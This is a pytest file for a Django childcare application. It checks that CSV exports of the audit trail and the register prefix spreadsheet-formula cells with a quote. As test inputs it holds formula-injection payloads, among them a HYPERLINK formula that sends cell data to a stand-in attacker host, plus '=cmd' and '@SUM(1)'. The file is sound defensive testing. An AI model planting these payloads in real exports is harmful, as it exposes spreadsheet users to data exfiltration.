"""Issue 19.6: a CSV export never hands a spreadsheet a formula. A cell that starts with
= + - @ TAB or CR (a staff member's name, a register text a director wrote) starts with a
quote instead, in the audit trail's export and in the register's."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from accountability import services as accountability_services
from accountability.reports import spreadsheet_safe
from ikc_share import services as core_services

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"klik")', "+31 6 1234", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_start_a_formula_gets_a_quote(text):
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("Sanne de Boer") == "Sanne de Boer"
    assert spreadsheet_safe(None) == ""


def _act_as(world, name: str, *, first: str, last: str):
    user = world.user(name)
    user.first_name, user.last_name = first, last
    user.save(update_fields=["first_name", "last_name"])
    core_services.child_record_viewed(child=world.child_daycare, actor=user)
    return user


@pytest.mark.parametrize(
    ("first", "last"),
    [("", '=HYPERLINK("https://evil.example","klik")'), ("=cmd", "Jansen"), ("@SUM(1)", ""), ("\t", "=1+1")],
)
def test_the_audit_export_quotes_a_name_that_is_a_formula(world, login, first, last):
    _act_as(world, "staff_childcare", first=first, last=last)
    client = login(world.user("po_childcare"))
    response = client.get(reverse("ikc_share:audit-export", kwargs={"org_pk": world.childcare.pk}))
    assert response.status_code == 200
    rows = _rows(response)
    actor_column = rows[0].index("actor")
    names = [row[actor_column] for row in rows[1:] if row[actor_column]]
    assert names, rows
    for name in names:
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r")), name
    assert any(name.startswith("'") and last.strip() in name for name in names)


def test_the_register_export_quotes_a_text_that_is_a_formula(world, login):
    director = world.user("director_childcare")
    text = '=HYPERLINK("https://evil.example","Beveiliging")'
    accountability_services.register_security_update(organisation=world.childcare, actor=director, text=text)
    response = login(director).get(
        reverse("ikc_share:register-export", kwargs={"org_pk": world.childcare.pk, "fmt": "csv"})
    )
    assert response.status_code == 200
    cells = [cell for row in _rows(response) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
